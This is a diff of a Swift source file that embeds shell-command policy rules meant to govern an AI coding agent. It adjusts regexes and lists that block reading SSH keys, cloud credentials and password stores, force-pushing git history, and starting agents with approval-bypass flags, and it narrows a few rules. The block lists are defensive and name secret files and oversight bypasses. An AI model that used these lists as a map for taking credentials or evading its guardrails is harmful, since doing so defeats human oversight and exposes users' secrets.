@@ -381,7 +381,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/deployment.tract", package: "tractatus.deployment",
-      sha256: "48f1c9f3bfdeaac172ee4d7589a049171f870f1ee0a2a67458d1d8eb9824f3a1",
+      sha256: "dd71666050f85635b4f29b8be5e658c81f0b7877d7152779f1b7dd52d6dbf40a",
       #"""
       /// Deployments: the target's directory structure is kept, and production is a person's decision.
       policy tractatus.deployment "Deployments are deliberate" version "1.0.0"
@@ -398,7 +398,7 @@ enum EmbeddedPacks {
           source:       system
 
           on bash
-          deny when any c in command satisfies (c runs "rsync" without ["-R", "--relative", "-n", "--dry-run"] and c writes like ["/var/www", "/var/www/**", "/srv", "/srv/**", "/usr/share/nginx/**", "/opt/**"])
+          deny when any c in command satisfies (c runs "rsync" without ["-R", "--relative", "-n", "--dry-run"] and c writes like ["/var/www", "/var/www/**", "/srv", "/srv/**", "/usr/share/nginx/**", "/opt/**"]) and command matches /[:\s"']\/(?:var\/www|srv|usr\/share\/nginx|opt)/
               because "rsync without --relative flattens the tree."
           ask when any c in command satisfies (c runs "rsync" with ["--delete", "--delete-before", "--delete-during", "--delete-after", "--delete-excluded"] without ["-n", "--dry-run"] and c connects)
               because "This deletes what is on the target and not here."
@@ -462,7 +462,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/git.tract", package: "tractatus.git",
-      sha256: "77618a64535c559c63babe92126b1f1c790b36c02278bd566887b8af3e6c244f",
+      sha256: "e725eef8a63215bc6997f5e9cf534caff14dffd0b1f90858e5ec064bc7456ef2",
       #"""
       /// History and repositories: what cannot be undone, and what makes git run other programs.
       policy tractatus.git "Repositories and their history" version "1.0.0"
@@ -472,11 +472,11 @@ enum EmbeddedPacks {
 
       sealed rule history "Shared history is not rewritten" {
           on bash
-          deny when command runs "git push" with ["-f", "--force", "--mirror"] and command matches /-[\w"'\\]*f|--["'\\]*fo|--["'\\]*mi|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          deny when command runs "git push" with ["-f", "--force", "--mirror"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|--["'\\]*mi|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This replaces commits that others have."
           deny when command runs "git push" operand matches /^\+/ and command matches /[\s'"=]\+/
               because "A `+` before a branch replaces commits that others have."
-          ask when command runs "git push" with ["-d", "--delete", "--prune"] and command matches /-[\w"'\\]*d|--["'\\]*de|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git push" with ["-d", "--delete", "--prune"] and command matches /[^\w-]-[\w"'\\]*d|--["'\\]*de|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This deletes branches or tags that others have."
           ask when command runs "git push" operand matches /^:/ and command matches /[\s'"=]:\S/
               because "This deletes a branch or tag that others have."
@@ -497,7 +497,7 @@ enum EmbeddedPacks {
           on bash
           ask when command runs "git reset" with "--hard" and command matches /--["'\\]*ha|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This throws away what is not committed."
-          ask when command runs "git clean" with ["-f", "--force"] without ["-n", "--dry-run"] and command matches /-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git clean" with ["-f", "--force"] without ["-n", "--dry-run"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This deletes files that git does not know."
           ask when command runs ["git checkout", "git restore"] operand in [".", "*", ":/", ":/*"] and command matches /\s['"]?(?:\.\/?|\*|:\/\*?)['"]?\s*(?:$|[;&|)\n])/
               because "This throws away every change that is not committed."
@@ -509,21 +509,21 @@ enum EmbeddedPacks {
               because "This throws away what is not committed."
           ask when command runs ["git stash drop", "git stash clear"]
               because "This throws away what was put aside."
-          ask when command runs "git branch" with "-D" and command matches /-[\w"'\\]*D|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git branch" with "-D" and command matches /[^\w-]-[\w"'\\]*D|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This deletes a branch whose commits may be nowhere else."
           ask when command runs ["git reflog expire", "git reflog delete"]
               because "This removes the way back to lost commits."
           ask when command runs "git gc" with "--prune" and command matches /--prune=(?:now|all|0)/
               because "This removes the way back to lost commits."
-          ask when command runs ["git update-ref", "git symbolic-ref"] with ["-d", "--delete"] and command matches /-[\w"'\\]*d|--["'\\]*de|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["git update-ref", "git symbolic-ref"] with ["-d", "--delete"] and command matches /[^\w-]-[\w"'\\]*d|--["'\\]*de|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This deletes a reference."
-          ask when command runs "git worktree remove" with ["-f", "--force"] and command matches /-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git worktree remove" with ["-f", "--force"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This throws away what is not committed."
-          ask when command runs "git submodule deinit" with ["-f", "--force", "--all"] and command matches /-[\w"'\\]*f|--["'\\]*al|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git submodule deinit" with ["-f", "--force", "--all"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*al|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This throws away what is not committed."
-          ask when command runs ["git rm"] with ["-f", "--force"] and command matches /-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["git rm"] with ["-f", "--force"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This deletes files with changes that are not committed."
-          ask when command runs "git rm" with "-r" without "--cached" operand in [".", "*"] and command matches /-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git rm" with "-r" without "--cached" operand in [".", "*"] and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This deletes every file that git knows."
           offer "Commit or stash first."
           example ask   { command: "git reset --hard HEAD~3" }
@@ -549,13 +549,13 @@ enum EmbeddedPacks {
               because "This address makes git run another program."
           ask when command runs "git config" without ["--get", "--get-all", "--list", "-l", "--unset", "--get-regexp", "--show-origin"] operand matches /^(?:alias\.|core\.(?:pager|editor|sshcommand|hookspath|fsmonitor|gitproxy|askpass|worktree)$|diff\..*(?:external|textconv|command)|difftool\..*cmd|mergetool\..*cmd|merge\..*driver|filter\.|credential\.|sequence\.editor|gpg\..*program|protocol\.|remote\..*(?:uploadpack|receivepack|proxy|vcs)|uploadpack\.|http\.(?:proxy|sslverify|extraheader)|url\.|include\.|includeif\.|init\.templatedir|interactive\.difffilter|sendemail\.|safe\.directory)/i
               because "This setting makes git run another program, or trust what it should not."
-          ask when command runs "git config" with ["--system", "-e", "--edit"] and command matches /-[\w"'\\]*e|--["'\\]*ed|--["'\\]*sy|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git config" with ["--system", "-e", "--edit"] and command matches /[^\w-]-[\w"'\\]*e|--["'\\]*ed|--["'\\]*sy|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This changes git's settings for everyone."
-          ask when command runs "git grep" with ["-O", "--open-files-in-pager"] and command matches /-[\w"'\\]*O|--["'\\]*op|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git grep" with ["-O", "--open-files-in-pager"] and command matches /[^\w-]-[\w"'\\]*O|--["'\\]*op|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This option makes git run another program."
           ask when command runs ["git instaweb", "git daemon", "git send-email", "git shell"]
               because "This makes git run other programs, or serve the repository."
-          ask when command runs "git difftool" with ["-x", "--extcmd"] and command matches /-[\w"'\\]*x|--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "git difftool" with ["-x", "--extcmd"] and command matches /[^\w-]-[\w"'\\]*x|--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This makes git run another program."
           ask when command runs ["git diff", "git log", "git show"] with ["--ext-diff"] and command matches /--["'\\]*ex|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This makes git run another program."
@@ -587,7 +587,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/secrets.tract", package: "tractatus.secrets",
-      sha256: "f6f20d339d27042b28f7d5063efabeae2316dc3dd2f9be5e0ceba583c752187f",
+      sha256: "b229e009ee3c93f0a89df97de92e2cd8c1622e45ce7471104b9f0348dcff1c69",
       #"""
       /// Files that hold secrets: reading them, and sending them anywhere.
       policy tractatus.secrets "Secrets stay where they are" version "1.0.0"
@@ -596,7 +596,7 @@ enum EmbeddedPacks {
       use tractatus.shell
 
       /// Keys and passwords that no development work reads.
-      let private_files = ["**/.ssh/id_rsa", "**/.ssh/id_dsa", "**/.ssh/id_ecdsa", "**/.ssh/id_ecdsa_sk", "**/.ssh/id_ed25519", "**/.ssh/id_ed25519_sk", "**/.ssh/identity", "**/.ssh/*.pem", "**/.ssh/*.key", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "**/.gnupg/**", "**/.aws/credentials", "**/.aws/config", "**/.config/gcloud/**", "**/.azure/**", "**/.kube/config", "**/.docker/config.json", ".netrc", "_netrc", ".pgpass", ".my.cnf", "~/.npmrc", ".pypirc", ".git-credentials", "**/.config/gh/hosts.yml", "**/.config/hub", "**/.password-store/**", "**/Keychains/**", "/etc/shadow", "/etc/shadow-", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_*_key", "/proc/*/environ", "/proc/*/mem", "/proc/kcore", "*.kdbx", "*.ppk", "*.jks", "*.keystore", "*.p12", "*.pfx", "wallet.dat", ".vault-token", "**/.terraform.d/credentials.tfrc.json", "**/.config/op/**", "**/Cookies", "**/Login Data", "**/logins.json", "**/key4.db", ".bash_history", ".zsh_history", ".psql_history", ".mysql_history", ".python_history", ".node_repl_history", "fish_history"]
+      let private_files = ["**/.ssh/id_rsa", "**/.ssh/id_dsa", "**/.ssh/id_ecdsa", "**/.ssh/id_ecdsa_sk", "**/.ssh/id_ed25519", "**/.ssh/id_ed25519_sk", "**/.ssh/identity", "**/.ssh/*.pem", "**/.ssh/*.key", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "**/.aws/credentials", "**/.aws/config", "**/.kube/config", "**/.docker/config.json", ".netrc", "_netrc", ".pgpass", ".my.cnf", "~/.npmrc", ".pypirc", ".git-credentials", "**/.config/gh/hosts.yml", "**/.config/hub", "/etc/shadow", "/etc/shadow-", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_*_key", "/proc/*/environ", "/proc/*/mem", "/proc/kcore", "*.kdbx", "*.ppk", "*.jks", "*.keystore", "*.p12", "*.pfx", "wallet.dat", ".vault-token", "**/.terraform.d/credentials.tfrc.json", "**/Cookies", "**/Login Data", "**/logins.json", "**/key4.db", ".bash_history", ".zsh_history", ".psql_history", ".mysql_history", ".python_history", ".node_repl_history", "fish_history"]
       /// Settings with secrets in them, which people do work with.
       let setting_files = [".env", ".env ", ".env.", ".env.local", ".env.*.local", ".env.prod", ".env.production", ".env.dev", ".env.development", ".env.staging", ".env.live", ".envrc", "secrets.yml", "secrets.yaml", "secrets.json", "secrets.toml", "secrets/*", "config/secrets/*", "credentials.json", "credentials.yml", "service-account*.json", "serviceAccount*.json", "*.pem", "*.key", "master.key", "*.tfstate", "*.tfstate.backup", "terraform.tfvars", "prod.tfvars", "production.tfvars", "kubeconfig", ".htpasswd", ".dockercfg", "wp-config.php"]
       /// Folders of keys and passwords.
@@ -604,11 +604,12 @@ enum EmbeddedPacks {
 
       /// Whether the line spells what may be a secret. A file that is not known counts only on such a
       /// line: `find . -name '*.c' -exec grep -l main {} +` reads none.
-      let spells_a_secret on bash = command matches /\.e|\.[?*\[{"'\\$@+!]|\benv\b|environ|\.ssh|id_|rsa|ed25519|aws|gnupg|gpg|gcloud|azure|kube|docker\/conf|netrc|pgpass|\.my\.|npmrc|pypirc|credential|hosts\.yml|password|keychain|shadow|sh[?*\[]dow|sudoers|ssl\/|\/proc\/|kdbx|ppk|jks|keystore|p12|pfx|wallet|vault|cookies|login|key4|history|secret|service.?account|pem\b|\.key|tfstate|tfvars|htpasswd|dockercfg|wp-config|\/etc|\/root|\/home|\/users|~|\$home|\\[0-7xu]|\*\.(?:pem|key|p12|pfx|ppk|k[?*\[]|p[?*\[])|\$\(\s*(?:printf|echo|base64|xxd|rev|tr)\b/i
+      let spells_a_secret on bash = command matches /\.e|\.[?*\[{"'\\$@+!]|\benv\b|environ|\.ssh|id_|rsa|ed25519|aws|gnupg|gpg|gcloud|azure|kube|docker\/conf|netrc|pgpass|\.my\.|npmrc|pypirc|credential|hosts\.yml|password|keychain|shadow|sh[?*\[]dow|sudoers|ssl\/|\/proc\/|kdbx|ppk|jks|keystore|p12|pfx|wallet|vault|cookies|login|key4|history|secret|service.?account|pem\b|\.key|tfstate|tfvars|htpasswd|dockercfg|wp-config|\/etc|\/root|\/home|\/users|~\w*\/|\$home|\\[0-7xu]|\*\.(?:pem|key|p12|pfx|ppk|k[?*\[]|p[?*\[])|\$\(\s*(?:printf|echo|base64|xxd|rev|tr)\b/i
 
       sealed rule secret_files "Files that hold secrets stay unread" {
           on bash
           deny when command reads like private_files ignoring case and spells_a_secret because "This reads keys or passwords."
+          deny when command reads within ["~/.gnupg", "~/.config/gcloud", "~/.azure", "~/.password-store", "~/Library/Keychains", "~/.config/op"] and spells_a_secret because "This reads keys or passwords."
           ask when command reads like setting_files ignoring case and spells_a_secret because "This reads a file that usually holds secrets."
           ask when any c in command satisfies (c runs ["cp", "mv", "tar", "gtar", "bsdtar", "zip", "rsync", "scp", "ln", "grep", "rg", "egrep", "7z"] and c reads within private_places) and spells_a_secret because "This reads folders of keys and passwords."
           ask when command runs ["find", "fd"] with ["-exec", "-execdir", "-x", "-X", "--exec"] and command matches /\bf(?:in)?d\b.*(?:\.env\b|id_rsa|id_ed|\.pem|\.key\b|\.ssh|\.aws|shadow|credential|secret).*-(?:exec|x)/i because "This reads files that usually hold secrets."
@@ -683,7 +684,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/self_protection.tract", package: "tractatus.self_protection",
-      sha256: "ea3d32d5a8a34aa80a77c5785c9196e974ad2ff9fde4d1263c78b2efbcbfc9af",
+      sha256: "f114fc7e5ffce41156e3ef608820dd3a6367516351e642f520c3782d4ef92b21",
       #"""
       /// What governs an agent is not the agent's to change: rules, hook settings, state and logs.
       policy tractatus.self_protection "The rules protect themselves" version "1.0.0"
@@ -719,7 +720,7 @@ enum EmbeddedPacks {
               because "This changes the rules, their settings or their records."
           ask when command runs ["tar", "gtar", "bsdtar"] with ["-x", "--extract"] and command matches /(?:-C|--directory)[=\s]*(?:\.\/)?(?:rules|\.claude)\b/
               because "This unpacks over the rules."
-          ask when any c in command satisfies (c runs ["python", "python3", "python2", "node", "bun", "deno", "perl", "ruby", "php", "awk", "gawk", "sed", "vim", "vi", "ex", "nvim", "lua"] with ["-e", "-c", "-i", "-p", "-E", "-r"] and c executes matches /\.tract\b|\.claude\b|\.tractatus\b/)
+          ask when any c in command satisfies (c runs ["python", "python3", "python2", "node", "bun", "deno", "perl", "ruby", "php", "awk", "gawk", "sed", "vim", "vi", "ex", "nvim", "lua"] with ["-e", "-c", "-i", "-p", "-E", "-r"] and c executes matches /\.tract\b|\.claude\b|\.tractatus\b/) and spells_the_rules
               because "This code touches the rules, their settings or their records."
           ask when command runs ["find", "gfind", "fd", "xargs", "parallel"] and command matches /(?:\.tract\b|\brules\b|\.claude\b).*(?:-exec\w*|-ok\w*|xargs|parallel|-x)\s[^;&]*\b(?:rm|mv|sed\s+-\w*i|chmod|chown|truncate|shred|cp|tee|perl\s+-\w*i|unlink|ln)\b|(?:\.tract\b|\brules\b|\.claude\b).*-delete/
               because "This changes the rules, their settings or their records."
@@ -751,15 +752,15 @@ enum EmbeddedPacks {
               because "This starts an agent without its rules."
           deny when command runs ["codex", "codex exec"] with ["--dangerously-bypass-approvals-and-sandbox", "--yolo", "--full-auto"] and command matches /--["'\\]*da|--["'\\]*fu|--["'\\]*yo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This starts an agent without its rules."
-          deny when command runs ["gemini", "qwen"] with ["--yolo", "-y", "--approval-mode"] and command matches /-[\w"'\\]*y|--["'\\]*ap|--["'\\]*yo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          deny when command runs ["gemini", "qwen"] with ["--yolo", "-y", "--approval-mode"] and command matches /[^\w-]-[\w"'\\]*y|--["'\\]*ap|--["'\\]*yo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This starts an agent without its rules."
-          deny when command runs ["aider", "goose", "amp", "opencode", "crush", "droid", "cursor-agent"] with ["--yes", "--yes-always", "--dangerously-allow-all", "--force", "-f", "--skip-permissions-unsafe", "--yolo"] and command matches /-[\w"'\\]*f|--["'\\]*da|--["'\\]*fo|--["'\\]*sk|--["'\\]*ye|--["'\\]*yo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          deny when command runs ["aider", "goose", "amp", "opencode", "crush", "droid", "cursor-agent"] with ["--yes", "--yes-always", "--dangerously-allow-all", "--force", "-f", "--skip-permissions-unsafe", "--yolo"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*da|--["'\\]*fo|--["'\\]*sk|--["'\\]*ye|--["'\\]*yo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This starts an agent without its rules."
           deny when command runs ["claude-code", "claude"] with "--permission-mode" and command matches /bypass/i
               because "This starts an agent without its rules."
-          ask when command runs ["claude", "claude-code"] with ["-p", "--print", "-c", "--continue", "-r", "--resume"] and command matches /-[\w"'\\]*[cpr]|--["'\\]*co|--["'\\]*pr|--["'\\]*re|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["claude", "claude-code"] with ["-p", "--print", "-c", "--continue", "-r", "--resume"] and command matches /[^\w-]-[\w"'\\]*[cpr]|--["'\\]*co|--["'\\]*pr|--["'\\]*re|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This starts another agent, which these rules may not reach."
-          ask when command runs ["codex exec", "gemini", "qwen", "cursor-agent"] with ["-p", "--prompt", "-i"] and command matches /-[\w"'\\]*[ip]|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["codex exec", "gemini", "qwen", "cursor-agent"] with ["-p", "--prompt", "-i"] and command matches /[^\w-]-[\w"'\\]*[ip]|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
               because "This starts another agent, which these rules may not reach."
           ask when command runs ["codex exec", "aider", "goose run", "amp", "opencode run"]
               because "This starts another agent, which these rules may not reach."
@@ -798,7 +799,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/shell.tract", package: "tractatus.shell",
-      sha256: "569963e4ca8a33516b45ad10dd653f8cfe59d8e104d227bd2ea315fdc05faa51",
+      sha256: "3bc5c068215fe4ed48ba963c43bcac12d2309da04b01aececf9fc8773149635e",
       #"""
       /// What command-line programs do with their options and operands, and rules against hostile
       /// commands on a shell.
@@ -935,7 +936,7 @@ enum EmbeddedPacks {
       program shred { deletes operands  writes operands  option -n --iterations -s --size takes text  option --random-source takes path reads  flag -u -z -f -v -x --remove --force --zero }
       program rename, prename, mmv { writes operands  executes first operand }
       program chmod { writes operands  option --reference takes path  flag -R --recursive  flag -v -c -f }
-      program chown, chgrp { writes other operands  option --reference --from takes text  flag -R --recursive  flag -v -c -f -h -H -L -P }
+      program chown, chgrp { writes other operands  option --reference takes text for first operand  option --from takes text  flag -R --recursive  flag -v -c -f -h -H -L -P }
       program chattr, setfacl, setfattr, chcon, setcap, chflags, xattr { writes operands  option -m -x -n -v -t takes text  flag -R --recursive }
       program find, gfind {
           reads operands
@@ -1500,7 +1501,7 @@ enum EmbeddedPacks {
       /// Devices that hold data, or the machine itself.
       let devices = ["/dev/sd*", "/dev/hd*", "/dev/vd*", "/dev/xvd*", "/dev/nvme*", "/dev/mmcblk*", "/dev/disk*", "/dev/rdisk*", "/dev/mapper/*", "/dev/md*", "/dev/loop*", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/dm-*", "/dev/zd*"]
       /// What runs at the next login, shell or start, and who may log in.
-      let start_up_files = [".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".bash_aliases", ".profile", ".zshrc", ".zshenv", ".zprofile", ".zlogin", ".zlogout", ".kshrc", ".cshrc", ".tcshrc", ".inputrc", ".xinitrc", ".xprofile", ".pam_environment", ".vimrc", ".gdbinit", ".irbrc", ".pythonrc", ".netrc", ".pgpass", ".npmrc", ".pypirc", ".bash_history", ".zsh_history", "sitecustomize.py", "usercustomize.py", "**/.config/fish/**", "**/.config/autostart/**", "**/.config/systemd/**", "**/.config/git/**", "**/LaunchAgents/**", "**/LaunchDaemons/**", "**/.ssh/**", "**/.gnupg/**", "**/.aws/**", "**/.kube/config", "**/.docker/config.json", "**/crontabs/**"]
+      let start_up_files = [".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".bash_aliases", ".profile", ".zshrc", ".zshenv", ".zprofile", ".zlogin", ".zlogout", ".kshrc", ".cshrc", ".tcshrc", ".inputrc", ".xinitrc", ".xprofile", ".pam_environment", ".vimrc", ".gdbinit", ".irbrc", ".pythonrc", ".netrc", ".pgpass", ".npmrc", ".pypirc", ".bash_history", ".zsh_history", "**/.config/fish/**", "**/.config/autostart/**", "**/.config/systemd/**", "**/.config/git/**", "**/LaunchAgents/**", "**/LaunchDaemons/**", "**/.ssh/**", "**/.gnupg/**", "**/.aws/**", "**/.kube/config", "**/.docker/config.json", "**/crontabs/**"]
 
       /// Whether the line spells a place that may lie outside the project. A target that is not known
       /// counts only on such a line: `find . -name '*.pyc' -exec rm {} +` goes nowhere else.
@@ -1570,6 +1571,7 @@ enum EmbeddedPacks {
               because "This changes files of the machine."
           deny when command writes within ["/etc", "/usr", "/bin", "/boot", "/lib", "/sbin", "/root", "/proc", "/sys", "/var/spool", "/var/log"] and spells_a_place
               because "This changes files of the machine."
+          deny when command writes like ["/etc/**", "/usr/**", "/root/**", "/bin/**", "/boot/**"] and command matches /:\/(?:etc|usr|root|bin|boot)/ because "This changes files of another machine."
           deny when command writes like start_up_files and spells_a_place
               because "This changes what runs at the next login, or who may log in."
           ask when any c in command satisfies (c runs "ln" and c reads in ["/", "/etc", "/usr", "/var", "/home", "/root", "/boot", "/bin", "/proc"]) and spells_the_machine
@@ -1608,28 +1610,28 @@ enum EmbeddedPacks {
           deny when command runs ["wipefs", "sgdisk", "sfdisk", "parted", "blkdiscard", "mkswap", "diskutil eraseDisk", "diskutil partitionDisk", "zpool destroy", "zfs destroy", "cryptsetup", "lvremove", "vgremove", "pvremove", "debugfs"] because "This changes disks."
           deny when command runs ["mkfs", "mkfs.ext2", "mkfs.ext3", "mkfs.ext4", "mkfs.xfs", "mkfs.btrfs", "mkfs.vfat", "mkfs.fat", "mkfs.ntfs", "mkfs.exfat", "mke2fs", "newfs"] operand matches /\/dev\// because "This changes disks."
           ask when command runs ["systemctl stop", "systemctl disable", "systemctl mask", "systemctl kill", "systemctl isolate", "systemctl set-default", "systemctl enable", "systemctl edit", "launchctl unload", "launchctl load", "launchctl remove", "launchctl bootout", "launchctl bootstrap", "chkconfig", "update-rc.d"] because "This changes which services run."
-          ask when command runs ["iptables", "ip6tables", "ebtables"] with ["-F", "-A", "-I", "-D", "-P", "-X", "-Z", "-N", "-R", "--flush", "--append", "--delete", "--policy"] and command matches /-[\w"'\\]*[ADFINPRXZ]|--["'\\]*ap|--["'\\]*de|--["'\\]*fl|--["'\\]*po|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the machine's protection."
+          ask when command runs ["iptables", "ip6tables", "ebtables"] with ["-F", "-A", "-I", "-D", "-P", "-X", "-Z", "-N", "-R", "--flush", "--append", "--delete", "--policy"] and command matches /[^\w-]-[\w"'\\]*[ADFINPRXZ]|--["'\\]*ap|--["'\\]*de|--["'\\]*fl|--["'\\]*po|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the machine's protection."
           ask when command runs ["iptables-restore", "nft flush", "nft delete", "nft add", "ufw disable", "ufw allow", "ufw reset", "ufw delete", "pfctl", "setenforce", "csrutil", "spctl", "nvram"] because "This changes the machine's protection."
           ask when command runs "firewall-cmd" because "This changes the machine's protection."
           ask when command runs ["useradd", "userdel", "usermod", "adduser", "deluser", "groupadd", "groupdel", "groupmod", "passwd", "chpasswd", "chage", "chsh", "visudo", "vipw", "vigr", "gpasswd", "dscl", "sysadminctl"] because "This changes who may use the machine."
           ask when command runs ["mount", "umount"] operand matches /./ because "This changes the machine's file systems."
-          ask when command runs "umount" with "-a" and command matches /-[\w"'\\]*a|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the machine's file systems."
+          ask when command runs "umount" with "-a" and command matches /[^\w-]-[\w"'\\]*a|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the machine's file systems."
           ask when command runs ["swapoff", "losetup", "insmod", "modprobe", "rmmod", "grub-install", "update-grub", "efibootmgr", "mdadm", "hdparm", "e2fsck", "resize2fs", "tune2fs", "badblocks"] because "This changes disks or the kernel."
-          ask when command runs "sysctl" with ["-w", "-p", "--write"] and command matches /-[\w"'\\]*[pw]|--["'\\]*wr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the kernel's settings."
+          ask when command runs "sysctl" with ["-w", "-p", "--write"] and command matches /[^\w-]-[\w"'\\]*[pw]|--["'\\]*wr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the kernel's settings."
           ask when command runs "sysctl" operand matches /=/ because "This changes the kernel's settings."
-          ask when command runs "crontab" with "-r" and command matches /-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This deletes every scheduled job."
+          ask when command runs "crontab" with "-r" and command matches /[^\w-]-[\w"'\\]*r|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This deletes every scheduled job."
           ask when command runs "crontab" operand matches /./ because "This schedules jobs."
           ask when command runs ["at", "batch", "systemd-run"] because "This runs a command later, when nobody looks."
           ask when command runs ["kill", "skill"] operand in ["1", "-1", "0"] and command matches /kill\b[^;&|]*\s-?['"]?[01]\b/ because "This stops every process."
-          ask when command runs "kill" with "-1" and command matches /-[\w"'\\]*1|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This stops every process."
-          ask when command runs ["pkill", "killall", "skill"] with ["-u", "--euid", "--uid", "-U"] and command matches /-[\w"'\\]*[Uu]|--["'\\]*eu|--["'\\]*ui|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This stops every process."
+          ask when command runs "kill" with "-1" and command matches /[^\w-]-[\w"'\\]*1|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This stops every process."
+          ask when command runs ["pkill", "killall", "skill"] with ["-u", "--euid", "--uid", "-U"] and command matches /[^\w-]-[\w"'\\]*[Uu]|--["'\\]*eu|--["'\\]*ui|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This stops every process."
           ask when command runs ["killall5", "fuser"] because "This stops every process."
-          ask when command runs "history" with ["-c", "-w", "-d", "-a"] and command matches /-[\w"'\\]*[acdw]|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the record of what was run."
+          ask when command runs "history" with ["-c", "-w", "-d", "-a"] and command matches /[^\w-]-[\w"'\\]*[acdw]|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the record of what was run."
           ask when command runs "journalctl" with ["--vacuum-size", "--vacuum-time", "--vacuum-files", "--rotate"] and command matches /--["'\\]*ro|--["'\\]*va|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This deletes the machine's records."
-          ask when command runs ["logrotate", "tcpdump", "ip netns"] with ["-f", "--force", "-z", "-w"] and command matches /-[\w"'\\]*[fwz]|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the machine's records, or runs a program."
+          ask when command runs ["logrotate", "tcpdump", "ip netns"] with ["-f", "--force", "-z", "-w"] and command matches /[^\w-]-[\w"'\\]*[fwz]|--["'\\]*fo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This changes the machine's records, or runs a program."
           ask when command runs "ip netns exec" because "This runs a command in another network."
           ask when command runs ["apt purge", "apt-get purge", "apt remove", "apt-get remove", "apt autoremove", "apt-get autoremove", "dnf remove", "dnf erase", "yum remove", "yum erase", "zypper remove", "apk del"] because "This removes programs of the machine."
